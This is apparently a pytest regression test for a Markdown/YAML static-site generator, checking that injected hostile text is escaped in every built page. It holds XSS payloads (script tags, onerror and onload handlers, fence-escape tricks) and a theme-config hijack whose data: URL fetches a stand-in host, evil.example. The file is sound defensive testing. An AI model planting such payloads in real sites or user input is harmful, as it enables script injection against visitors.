"""Hostile text in every kind of field goes through the whole build and stays inert."""
from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from generator.commands import build

PAYLOADS = [line for line in (Path(__file__).parent / "payloads" / "xss.txt").read_text(encoding="utf-8").splitlines()
            if line and not line.startswith("#")]
MARK = re.compile(r"xss-[fki]?\d+")


def _set(path: Path, mutate) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    mutate(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


# Fences that playbook's escaping could take for code while Markdown does not: a backtick fence's info
# string may not hold a backtick, so these are paragraphs of raw HTML to Markdown.
FENCES = ["```x`y\n<script>alert('xss-f1')</script>\n```",
          "~~~py`` ``\n<img src=x onerror=alert('xss-f2')>\n~~~",
          "```\n<img src=x onerror=alert('xss-f3')>\n````",
          "    ```\n<script>alert('xss-f4')</script>\n    ```"]
# Text that takes the id of the theme's settings element, which Material's script reads first
THEME_IDS = ['{"base": "https://evil.example/", "features": ["navigation.instant"], "search": '
             '"data:text/javascript,fetch(\'https://evil.example/?xss-i1\')", "tags": {}, "translations": {}}\n'
             '{: #__config }', "Search here xss-i2\n{: #__search }"]
FORMULAS = ["a `` <img src=x onerror=alert('xss-k1')> `` b", "`` <script>alert('xss-k2')</script> ``",
            "x ` <svg onload=alert('xss-k3')> ` y"]


def inject(root: Path) -> None:
    """Every payload in a Markdown block, a heading, a table cell, a tooltip, a checklist, a formula and a free
    page."""
    content = root / "content"

    def kpis(d):
        for kpi, formula in zip(d["kpis"], FORMULAS):
            kpi["formula"] = formula
    _set(content / "kpis.yml", kpis)
    _set(content / "charter.yml", lambda d: d.update(summary="\n\n".join([d["summary"], *PAYLOADS, *FENCES])))
    _set(content / "personal_use.yml", lambda d: d["rules"].extend(
        {"id": f"hostile-{i}", "title": p, "text": p, "topic": "other"} for i, p in enumerate(PAYLOADS)))

    def network(d):
        d["lexicon"].extend({"term": f"hostileterm{i}", "definition": p, "example": p} for i, p in enumerate(PAYLOADS))
        d["checklists"][0]["items"].extend(PAYLOADS)
        d["etiquette"].extend(PAYLOADS)
    _set(content / "networks" / "linkedin.yml", network)

    # the step-by-step assistants of the comment and crisis pages: one-line texts inside their HTML, block texts
    # (reply templates, holding statements) with every payload and fence
    line = f"{PAYLOADS[0]} {PAYLOADS[1]}\n\n```\n</div>\nend #"
    block = "\n\n".join(PAYLOADS + FENCES)

    def comments(d):
        d["decision_tree"]["nodes"][0]["question"] = line
        d["categories"][0]["name"] = line
        for template in d["templates"]:
            template.update(title=line, text=block)
    _set(content / "comments.yml", comments)

    def crisis(d):
        for level in d["levels"]:
            level["name"] = line
            level["criteria"].append(line)
        for statement in d["holding_statements"]:
            statement.update(situation=line, text=block)
        for contact in d["contacts"]:
            contact.update(name=line, backup=line)
    _set(content / "crisis.yml", crisis)
    body = "\n\n".join(PAYLOADS + FENCES + THEME_IDS + [f"hostileterm{i} in a sentence." for i in range(len(PAYLOADS))])
    (content / "pages" / "breakout.md").write_text(
        "---\n" + yaml.safe_dump({"title": PAYLOADS[-1], "order": 2}) + "---\nText.\n", encoding="utf-8")
    (content / "pages" / "hostile.md").write_text(
        "---\n" + yaml.safe_dump({"title": PAYLOADS[0], "order": 1}) + "---\n" + body + "\n", encoding="utf-8")


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.script_text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {k: v or "" for k, v in attrs}))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.script_text.append(data)


def _normalised(url: str) -> str:
    for _ in range(3):
        url = html.unescape(url)
    return re.sub(r"[\x00-\x20]+", "", url).replace("\\", "/").lower()


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from generator.resources import scaffold_dir

    from .conftest import copy_playbook
    root = copy_playbook(scaffold_dir("en"), tmp_path_factory.mktemp("hostile"))
    inject(root)
    return build.run(root).output


def test_payloads_reach_the_pages_as_text(hostile_site):
    text = (hostile_site / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert('xss-1')&lt;/script&gt;" in text
    assert "&lt;img src=x onerror=alert('xss-2')&gt;" in text
    assert ">click me<" in text  # a link whose target was a script keeps its text
    free_page = (hostile_site / "pages" / "hostile.html").read_text(encoding="utf-8")
    assert "<title>&lt;script&gt;alert(&#x27;xss-1&#x27;)&lt;/script&gt; - " in free_page
    # a formula holding backticks, and fences Markdown does not take for code, are shown as written
    kpis = (hostile_site / "kpis.html").read_text(encoding="utf-8")
    assert "<code>a `` &lt;img src=x onerror=alert('xss-k1')&gt; `` b</code>" in kpis
    assert "&lt;script&gt;alert('xss-f1')&lt;/script&gt;" in free_page
    assert "&lt;img src=x onerror=alert('xss-f2')&gt;" in free_page


def test_no_payload_is_active_anywhere(hostile_site):
    pages = list(hostile_site.rglob("*.html"))
    assert len(pages) >= 15
    for page in pages:
        parser = _Collect()
        parser.feed(page.read_text(encoding="utf-8"))
        where = page.relative_to(hostile_site)
        theme_ids = [attrs["id"] for _, attrs in parser.elements if attrs.get("id", "").startswith("__")]
        assert len(theme_ids) == len(set(theme_ids)), (where, theme_ids)  # no text took an id of the theme
        assert not any(MARK.search(t) for t in parser.script_text), f"{where}: a payload inside a script"
        for tag, attrs in parser.elements:
            assert tag not in ("iframe", "object", "embed", "frame", "frameset", "base"), (where, tag)
            for name, value in attrs.items():
                assert not name.startswith("on"), (where, tag, name, value)
                if name == "style":
                    assert not MARK.search(value), (where, tag, value)
                if name in ("href", "src", "action", "formaction", "data", "xlink:href", "poster"):
                    url = _normalised(value)
                    assert not url.startswith(("javascript:", "vbscript:", "data:")), (where, tag, name, value)
                    if name != "href":
                        assert not url.startswith(("http:", "https:", "//")), (where, tag, name, value)
            if tag == "script":
                src = attrs.get("src", "")
                assert not src or not _normalised(src).startswith(("http", "//")), (where, src)


def test_hostile_text_leaves_the_assistants_whole(hostile_site):
    """Neither a fence nor a closing tag in author text ends the assistants' HTML early: each has all its steps, none
    of its markup shows as text, and the page goes on after it."""
    # the starter's tree has 4 questions and 5 categories; its crisis 3 levels, each a question and an outcome, and
    # the outcome where no level applies
    for page, steps in (("comments.html", 9), ("crisis.html", 7)):
        text = (hostile_site / page).read_text(encoding="utf-8")
        start = text.index('class="playbook-assistant"')
        end = text.index('class="playbook-diagram ', start)
        assert text[start:end].count('<div class="playbook-assistant__step') == steps, page
        assert 'playbook-assistant' not in text[end:], page
        assert not re.search(r"&lt;(div|p|button) class=\"playbook-assistant", text), page
        assert "end #<" in text[start:end] and "end \\#" not in text[start:end], page


def test_template_syntax_is_not_evaluated(hostile_site):
    text = (hostile_site / "index.html").read_text(encoding="utf-8")
    assert "{{ config.extra }}" in text
    assert "{% for x in range(3) %}xss-27{% endfor %}" in text
